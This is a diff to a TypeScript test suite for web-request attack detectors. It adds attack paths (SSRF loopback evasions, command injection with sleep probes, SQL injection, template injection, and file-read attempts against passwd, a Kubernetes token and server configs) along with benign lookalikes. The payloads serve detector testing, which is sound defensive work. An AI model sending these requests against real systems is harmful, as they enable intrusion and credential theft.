@@ -87,6 +87,32 @@ const ATTACKS: ReadonlyArray<readonly [string, string, string?]> = [
   ['rce', '/run?cmd=`cat /etc/hosts`'],
   ['rce', '/download?f=/e[t]c/pa[s]swd'],
   ['xss', '/go?x=%22%2Bdocument.cookie'],
+  // Well-known evasions: loopback written otherwise, cmd.exe comparisons, arithmetic, Java web-app files.
+  ['generic', '/fetch?url=127.1:6379/'],
+  ['generic', '/fetch?url=0x7f000001/admin'],
+  ['generic', '/fetch?url=0177.0.0.1/admin'],
+  ['generic', '/fetch?url=2130706433/admin'],
+  ['generic', '/fetch?url=http://0:8080/'],
+  ['generic', '/fetch?url=[::ffff:127.0.0.1]:80/'],
+  ['generic', '/fetch?url=http://admin.localhost/'],
+  ['generic', '/fetch?url=127.0.0.1.nip.io/admin'],
+  ['generic', '/render?name=${7*7}'],
+  ['generic', "/eval?c='x'.repeat(1e9)"],
+  ['rce', '/run?cmd=if 1 equ 1 whoami'],
+  ['rce', '/run?cmd=x%26if %errorlevel% neq 0 dir'],
+  ['sqli', '/item?id=1 GROUP BY 1,2,3 HAVING 1=1'],
+  ['sqli', '/item?id=-1 OR 2%2B1-1-1=1'],
+  ['php', "/index.php?c=('sys'.'tem')('id')"],
+  ['lfi', '/download?f=WEB-INF/web.xml'],
+  ['rfi', '/index.php?page=\\\\203.0.113.5\\share\\shell.php'],
+  ['scanner', '/', 'Fuzz Faster U Fool v2.1.0'],
+  ['scanner', '/', 'feroxbuster/2.10.0'],
+  ['rce', '/ping?host=x;sleep 5'], // the usual blind probe: only the delay shows
+  ['rce', '/ping?host=`sleep 5`'],
+  ['lfi', '/download?f=.htaccess'],
+  ['lfi', '/download?f=/var/run/secrets/kubernetes.io/serviceaccount/token'],
+  ['lfi', '/download?f=/etc/nginx/nginx.conf'],
+  ['xss', '/search?q=\\u003cscript\\u003ealert(1)\\u003c/script\\u003e'], // as a JavaScript string escapes it
 ];
 
 const BENIGN: readonly string[] = [
@@ -131,6 +157,13 @@ const BENIGN: readonly string[] = [
   '/docs/javascript-manual/document.cookie', // a page named after the API, not a script using it
   '/search?q=%2F%5Ba-z%5D%7B1%2C5%7D%2F', // a regular expression: /[a-z]{1,5}/
   '/search?q=how+to+write+%60bla%60+in+markdown', // a word in backticks, not a command
+  '/search?q=if+size+equ+m', // cmd.exe's words need a command line around them: here only a search
+  '/player?t=0:30&v=127.1', // a time and a version, not an address
+  '/search?q=2%2B1+or+3+packs',
+  '/docs/meta-information?ref=web-info',
+  '/fetch?url=[::ffff:a9fe:a9fe]', // an address without a scheme is a value, as CRS's own negative tests say
+  '/search?q=sleep+well+pillow%3B+silk',
+  '/docs/secrets-management?section=run',
 ];
 
 describe('detectors', () => {
